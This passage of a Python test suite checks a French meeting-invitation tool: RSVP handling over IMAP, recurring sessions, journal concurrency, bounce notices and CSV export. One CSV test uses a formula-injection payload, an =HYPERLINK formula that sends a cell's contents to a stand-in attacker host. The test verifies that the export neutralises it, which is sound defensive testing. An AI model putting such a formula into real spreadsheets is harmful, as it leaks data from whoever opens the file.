                            organizer="karim.benali@sante.example.org")),
        mails.gmail(Reply(uid, "paul.roche@ars.example.org", "DECLINED",
                          organizer="karim.benali@sante.example.org")))
    assert cli("inbox", "--root", str(root), env=env).exit_code == 0
    listing = cli("due", "--date", "2027-06-11", "--root", str(root), env=env)
    assert "remerciements" in listing.output
    smtp_server.handler.messages.clear()
    sent = cli("due", "--date", "2027-06-11", "--run", "--confirm", "--root", str(root), env=env)
    assert sent.exit_code == 0, sent.output
    thanks = [m for m in smtp_server.handler.messages
              if "step-2027-06-journee-thanks" in m.message_id]
    assert [m.rcpt_tos for m in thanks] == [["anne.durand@mairie.example.org"]]
    assert "https://sante.example.org/journee/evaluation" in \
        thanks[0].message.get_body(("plain",)).get_content()


def test_help_of_each_command_is_french_and_documented():
    guide = (Path(__file__).parent.parent / "docs" / "redaction.md").read_text(encoding="utf-8")
    for command in ("inbox", "rsvp", "emargement"):
        result = cli(command, "--help")
        assert result.exit_code == 0 and "Utilisation" in result.output
        assert f"comms {command}" in guide


def series_blocks(territory, mailbox) -> list[str]:
    """`comms rsvp` for the monthly series, one block of lines per session."""
    listing = cli("rsvp", "2027-mensuelle", "--root", str(territory), env=env_for(mailbox))
    assert listing.exit_code == 0, listing.output
    return listing.output.split("Réunion mensuelle — ")[1:]


def test_a_series_is_answered_per_occurrence(territory, mailbox, smtp_server):
    """A monthly meeting: Anne accepts the series and declines the March session only;
    `comms rsvp` shows each session with its own counts."""
    write(territory, "calendars/events/2027-mensuelle.md",
          "---\ninstance: copil\ntitle: Réunion mensuelle\nstart: 2027-02-04 09:00\n"
          "end: 2027-02-04 11:00\nlocation: Centre social\nrepeat:\n  every: month\n"
          "  on: first thursday\n  until: 2027-04-30\n---\nTour de table.\n")
    sent = cli("invite", "2027-mensuelle", "--confirm", "--root", str(territory), "--today",
               TODAY, env=smtp_env(smtp_server))
    assert sent.exit_code == 0, sent.output
    uid = "2027-mensuelle@sante.example.org"
    mailbox.deliver(mails.outlook(Reply(uid, ANNE, "ACCEPTED")),
                    mails.gmail(Reply(uid, ANNE, "DECLINED", recurrence_id="20270304T080000Z",
                                      dtstamp="20270113T090000Z")))
    assert inbox(territory, mailbox).exit_code == 0
    blocks = series_blocks(territory, mailbox)
    assert [b.split(" (")[0] for b in blocks] == [
        "jeudi 4 février 2027", "jeudi 4 mars 2027", "jeudi 1er avril 2027"]
    anne_line = [next(line for line in b.splitlines() if ANNE in line) for b in blocks]
    assert [line.split()[0] for line in anne_line] == ["accepté", "refusé", "accepté"]
    assert f"accepté{NBSP}: 1" in blocks[0] and f"refusé{NBSP}: 1" in blocks[1]
    assert f"pas encore répondu{NBSP}: {len(PEOPLE) - 1}" in blocks[2]


def test_an_attendee_we_did_not_invite_is_reported_not_guessed(territory, mailbox):
    mailbox.deliver(mails.gmail(Reply(COPIL_UID, "inconnue@ailleurs.example.org", "ACCEPTED")),
                    mails.outlook(Reply(GT_UID, ANNE, "ACCEPTED",  # Anne is not in the GT
                                        organizer="karim.benali@sante.example.org")))
    result = inbox(territory, mailbox)
    assert result.exit_code == 0, result.output
    assert "inconnue@ailleurs.example.org" in result.output
    assert f"{ANNE}{NBSP}: a répondu pour «{NBSP}2027-04-gt{NBSP}» sans y avoir été invité" \
        in result.output
    assert answers(territory) == {}
    assert "0 traité, 2 laissés non lus" in result.output


def test_recorded_but_not_marked_is_only_marked_next_time(territory, mailbox):
    """The state a kill leaves between the journal commit and the IMAP STORE: the next run
    marks the message and counts nothing again."""
    mailbox.deliver(mails.outlook(Reply(COPIL_UID, ANNE, "ACCEPTED")))
    assert inbox(territory, mailbox).exit_code == 0
    with mailbox.client() as client:
        client.select_folder("INBOX")
        client.remove_flags(client.search("ALL"), [b"\\Seen", HANDLED_KEYWORD.encode()])
    result = inbox(territory, mailbox)
    assert result.exit_code == 0, result.output
    assert "1 message enregistré lors d’une lecture interrompue" in result.output
    assert f"Bilan{NBSP}: 0 message lu" in result.output
    assert all(HANDLED_KEYWORD.encode() in f for f in mailbox.flags().values())
    assert answers(territory) == {("2027-03-copil", ANNE): ("ACCEPTED", 0)}


def test_the_same_mail_in_another_folder_is_known_by_its_message_id(territory, mailbox):
    """A coordinator copies answers to a folder of her own (new UIDs, new UIDVALIDITY):
    reading that folder counts nothing twice."""
    replies = [mails.outlook(Reply(COPIL_UID, ANNE, "ACCEPTED")),
               mails.gmail(Reply(COPIL_UID, list(PEOPLE)[1], "DECLINED"))]
    mailbox.deliver(*replies)
    assert inbox(territory, mailbox).exit_code == 0
    mailbox.deliver(*replies, folder="Réunions")
    result = inbox(territory, mailbox, IMAP_FOLDER="Réunions")
    assert result.exit_code == 0, result.output
    assert "2 messages déjà traités sous un autre numéro" in result.output
    assert "Réponses aux invitations" not in result.output
    assert len(answers(territory)) == 2


def test_rsvp_lists_every_meeting_sent_with_counts(territory, mailbox):
    mailbox.deliver(mails.outlook(Reply(COPIL_UID, ANNE, "ACCEPTED", comment="Avec plaisir")),
                    mails.thunderbird(Reply(GT_UID, list(PEOPLE)[1], "TENTATIVE",
                                            organizer="karim.benali@sante.example.org")))
    assert inbox(territory, mailbox).exit_code == 0
    listing = cli("rsvp", "--root", str(territory), env=env_for(mailbox))
    assert listing.exit_code == 0, listing.output
    out = listing.output
    assert out.index("(2027-03-copil)") < out.index("(2027-04-gt)")
    assert f"accepté{NBSP}: 1 · peut-être{NBSP}: 0 · refusé{NBSP}: 0 · pas encore répondu" \
        f"{NBSP}: {len(PEOPLE) - 1}" in out
    assert "Anne Durand <anne.durand@mairie.example.org> — Avec plaisir" in out
    table = cli("rsvp", "--csv", "--root", str(territory), env=env_for(mailbox))
    assert table.output.startswith("\ufeffévènement;date;nom;organisation;adresse;réponse")
    rows = list(csv.DictReader(io.StringIO(table.output.lstrip("\ufeff")), delimiter=";"))
    assert len(rows) == len(PEOPLE) + 1  # the COPIL's seven, the GT's one
    assert {(r["évènement"], r["réponse"]) for r in rows if r["adresse"] == list(PEOPLE)[1]} \
        == {("2027-03-copil", "pas encore répondu"), ("2027-04-gt", "peut-être")}


def test_two_runs_at_once_record_a_message_once_and_fail_neither(territory):
    """Two `comms inbox` at once (the cron's and a coordinator's): the other run records the
    message between this run's look-up and its write. This run then writes nothing, counts
    nothing and goes on; before, the journal's uniqueness refusal was reported as a damaged
    journal to restore from a backup."""
    from comms import content
    from comms.commands.inbox import events_of
    from comms.inbox.process import HANDLED, InboxProcessor, InboxSummary
    from comms.inbox.settings import load_inbox_settings

    account = load_inbox_settings(territory, environ={
        "IMAP_HOST": "127.0.0.1", "IMAP_SECURITY": "none", "IMAP_ALLOW_PLAIN_LOOPBACK": "1",
        "IMAP_USER": "coord@sante.example.org", "IMAP_PASSWORD": "x"}).accounts[0]
    mail = mails.outlook(Reply(COPIL_UID, ANNE, "ACCEPTED"))
    project = content.load_project(territory)
    with Journal.open(territory) as mine, Journal.open(territory) as theirs:
        events = events_of(project, mine)
        other = InboxProcessor(theirs, events, bound_secret(territory), 3, InboxSummary())

        class Overtaken(InboxProcessor):
            def _decide(self, item, where):
                assert other.process(account, "INBOX", 7, 1, mail) == HANDLED
                return super()._decide(item, where)

        summary = InboxSummary()
        processor = Overtaken(mine, events, bound_secret(territory), 3, summary)
        assert processor.process(account, "INBOX", 7, 1, mail) == HANDLED
        assert summary.read == 0 and not summary.answers and not summary.handled
        assert other.summary.read == 1
    assert journal_rows(territory, "SELECT uid, outcome FROM inbox_messages") == [(1, HANDLED)]
    assert answers(territory) == {("2027-03-copil", ANNE): ("ACCEPTED", 0)}


def test_a_password_with_accents_logs_in(territory, dovecot):
    """LOGIN is ASCII only: a password with accents (as `.env` allows) goes through
    AUTHENTICATE PLAIN in UTF-8 rather than ending in a traceback."""
    user, password = "lettre-accents@sante.example.org", "Mot-de-passe-été-ÉÀ"
    dovecot.users[user] = password
    dovecot._write_users()
    time.sleep(1.1)  # Dovecot reads its passwd-file again at most once a second
    box = Mailbox(dovecot, user, password)
    box.deliver(mails.outlook(Reply(COPIL_UID, ANNE, "ACCEPTED")))
    result = inbox(territory, box)
    assert result.exit_code == 0, result.output
    assert answers(territory) == {("2027-03-copil", ANNE): ("ACCEPTED", 0)}
    refused = inbox(territory, box, IMAP_PASSWORD="Mauvais-été")
    assert refused.exit_code == 1 and "Identifiants refusés" in refused.output
    assert "Mauvais-été" not in refused.output and "Traceback" not in refused.output


def test_rsvp_csv_never_hands_excel_a_formula_from_a_partner(territory, mailbox):
    """A COMMENT is written by whoever answers: in the CSV it stays text, never a formula
    that Excel would run on opening."""
    formula = '=HYPERLINK("https://pirate.example.org/?d="&A1;"Cliquez")'
    mailbox.deliver(mails.outlook(Reply(COPIL_UID, ANNE, "DECLINED", comment=formula)),
                    mails.gmail(Reply(COPIL_UID, list(PEOPLE)[1], "ACCEPTED",
                                      comment="@SUM(1+1)")))
    assert inbox(territory, mailbox).exit_code == 0
    table = cli("rsvp", "2027-03-copil", "--csv", "--root", str(territory),
                env=env_for(mailbox))
    assert table.exit_code == 0, table.output
    rows = list(csv.DictReader(io.StringIO(table.output.lstrip("\ufeff")), delimiter=";"))
    comments = {r["adresse"]: r["commentaire"] for r in rows}
    assert comments[ANNE] == "'" + formula
    assert comments[list(PEOPLE)[1]] == "'@SUM(1+1)"
    assert comments[list(PEOPLE)[2]] == ""


def test_a_done_folder_the_server_refuses_stops_before_reading(territory, mailbox):
    """Dovecot's Maildir separates sub-folders with « . »: « Traités/comms » is refused. The
    run says which setting to fix before reading anything, instead of recording a message,
    then failing on the move at every run with « relancez la commande »."""
    mailbox.deliver(mails.outlook(Reply(COPIL_UID, ANNE, "ACCEPTED")))
    result = inbox(territory, mailbox, IMAP_DONE_FOLDER="Traités/comms")
    assert result.exit_code == 1
    assert "IMAP_DONE_FOLDER" in result.output and "Traités.comms" in result.output
    assert "Traceback" not in result.output
    assert not answers(territory)
    assert all(b"\\Seen" not in f for f in mailbox.flags().values())
    ok = inbox(territory, mailbox, IMAP_DONE_FOLDER="Traités.comms")
    assert ok.exit_code == 0, ok.output
    assert len(mailbox.flags("Traités.comms")) == 1 and not mailbox.flags()


@pytest.mark.parametrize("sequence", [99999999999999999999999, -1, 2**31])
def test_a_sequence_beyond_icalendar_integers_is_reported_not_a_crash(territory, mailbox,
                                                                      sequence):
    """SEQUENCE is an integer of 0 or more in 32 bits (RFC 5545 §3.3.8): a bigger one used to
    stop every run with a traceback on the journal write, the message never recorded."""
    mailbox.deliver(mails.zimbra(Reply(COPIL_UID, ANNE, "ACCEPTED", sequence=sequence)),
                    mails.gmail(Reply(COPIL_UID, list(PEOPLE)[1], "DECLINED")))
    result = inbox(territory, mailbox)
    assert result.exit_code == 0, result.output
    assert f"SEQUENCE illisible ({sequence})" in result.output
    assert answers(territory) == {("2027-03-copil", list(PEOPLE)[1]): ("DECLINED", 0)}
    assert f"Bilan{NBSP}: 2 messages lus, 1 traité, 1 laissé non lu" in result.output


def test_a_calendar_part_in_another_charset_keeps_its_accents():
    """MIME names the charset of a text/calendar part; a comment in windows-1252 is read as
    such, not as UTF-8 turned into replacement characters."""
    mail = mails.zimbra(Reply(COPIL_UID, ANNE, "DECLINED", comment="Désolée, congés"))
    mail = mail.replace(b"charset=utf-8; method=REPLY", b"charset=windows-1252; method=REPLY")
    mail = mail.replace("Désolée, congés".encode(), "Désolée, congés".encode("cp1252"))
    item = classify(mail)
    assert item.kind == REPLY
    assert item.answers[0].comment == "Désolée, congés"


def test_an_address_bounced_by_several_notices_is_named_once(territory, mailbox):
    """Three mailings to a dead address come back as three notices: the summary names the
    address once."""
    email = list(PEOPLE)[5]
    mid = copil_message_id(territory, email)
    mailbox.deliver(*(mails.postfix_dsn(email, mid) for _ in range(3)))
    result = inbox(territory, mailbox)
    assert result.exit_code == 0, result.output
    assert (f"Adresses en échec définitif, écartées de tout envoi{NBSP}: {email}\n"
            in result.output)
    assert f"Bilan{NBSP}: 3 messages lus, 3 traités" in result.output


def test_a_moved_session_is_answered_under_its_date_in_the_series(territory, mailbox,
                                                                   smtp_server):
    """The April session moves from the 1st to the 8th: clients answer it with the
    RECURRENCE-ID of 1 April 9:00 (its place in the series), and `comms rsvp` shows that
    answer on the 8 April session."""
    write(territory, "calendars/events/2027-mensuelle.md",
          "---\ninstance: copil\ntitle: Réunion mensuelle\nstart: 2027-02-04 09:00\n"
          "end: 2027-02-04 11:00\nlocation: Centre social\nrepeat:\n  every: month\n"
          "  on: first thursday\n  until: 2027-04-30\n  moved:\n"
          "    2027-04-01: 2027-04-08 09:00\n---\nTour de table.\n")
    sent = cli("invite", "2027-mensuelle", "--confirm", "--root", str(territory), "--today",
               TODAY, env=smtp_env(smtp_server))
    assert sent.exit_code == 0, sent.output
    uid = "2027-mensuelle@sante.example.org"
    (sequence,) = {s for (s,) in journal_rows(
        territory, "SELECT sequence FROM invitation_versions WHERE event_id = "
        "'2027-mensuelle'")}
    mailbox.deliver(mails.gmail(Reply(uid, ANNE, "DECLINED", sequence=sequence,
                                      recurrence_id="20270401T070000Z")))
    assert inbox(territory, mailbox).exit_code == 0
    blocks = series_blocks(territory, mailbox)
    assert [b.split(" (")[0] for b in blocks] == [
        "jeudi 4 février 2027", "jeudi 4 mars 2027", "jeudi 8 avril 2027"]
    anne_line = [next(line for line in b.splitlines() if ANNE in line) for b in blocks]
    assert [line.split()[0] for line in anne_line] == ["pas", "pas", "refusé"]
